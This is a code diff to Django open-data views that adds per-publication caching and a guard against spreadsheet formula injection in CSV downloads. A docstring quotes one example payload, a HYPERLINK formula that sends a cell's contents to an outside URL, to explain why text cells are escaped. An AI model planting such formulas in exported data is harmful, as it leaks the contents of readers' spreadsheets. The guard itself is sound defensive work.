@@ -1,5 +1,8 @@
 """Open data views: machine-readable copies of the published figures (CC BY 4.0).
 
+Like the pages, each is cached whole per publication with an ETag (public_page): a results file
+of ten thousand rows is built once per publication, not once per request.
+
 What the files hold and their columns live in evaluations.opendata; the licence in
 reformtracker.public_pages.
 """
@@ -18,10 +21,12 @@ from evaluations.opendata import (
     results,
     with_licence_headers,
 )
+from evaluations.workbooks.format import safe_text
 from initiatives.models import Plan
-from reformtracker.public_pages import LICENCE, licensed_json
+from reformtracker.public_pages import LICENCE, licensed_json, public_page
 
 
+@public_page
 def index(request):
     rows = plan_years()
     return render(
@@ -36,24 +41,33 @@ def index(request):
     )
 
 
+@public_page
 def results_csv(request, slug, fiscal_year):
-    """One row per initiative; UTF-8 with BOM so Excel opens it as Japanese text."""
+    """One row per initiative; UTF-8 with BOM so Excel opens it as Japanese text.
+
+    A download, and every text cell through the 照会票's formula guard (``safe_text``): a
+    published narrative such as ``=HYPERLINK("http://…?leak="&A1)`` must not run when the file
+    is opened in a spreadsheet. The JSON keeps the exact text."""
     plan, _publication, _pillars, rows = results(slug, fiscal_year)
     response = HttpResponse(content_type="text/csv; charset=utf-8")
-    response["Content-Disposition"] = f'inline; filename="{plan.slug}-{fiscal_year}-results.csv"'
+    response["Content-Disposition"] = (
+        f'attachment; filename="{plan.slug}-{fiscal_year}-results.csv"'
+    )
     response.write("\ufeff")
     writer = csv.writer(response, lineterminator="\r\n")
     writer.writerow([name for name, _ in RESULT_COLUMNS])
     for row in rows:
-        writer.writerow(
-            [
-                ("true" if row[n] else "false") if n == "evaluated" else row[n]
-                for n, _ in RESULT_COLUMNS
-            ]
-        )
+        writer.writerow([_csv_cell(name, row[name]) for name, _ in RESULT_COLUMNS])
     return with_licence_headers(response)
 
 
+def _csv_cell(name: str, value):
+    if name == "evaluated":
+        return "true" if value else "false"
+    return safe_text(value) if isinstance(value, str) else value
+
+
+@public_page
 def results_json(request, slug, fiscal_year):
     plan, publication, pillars, rows = results(slug, fiscal_year)
     summary = published.summary_of(publication)
@@ -80,6 +94,7 @@ def results_json(request, slug, fiscal_year):
     return with_licence_headers(licensed_json(payload))
 
 
+@public_page
 def plans_json(request):
     """Every plan with one summary per published 時点, oldest first."""
     plans = list(Plan.objects.select_related("municipality"))
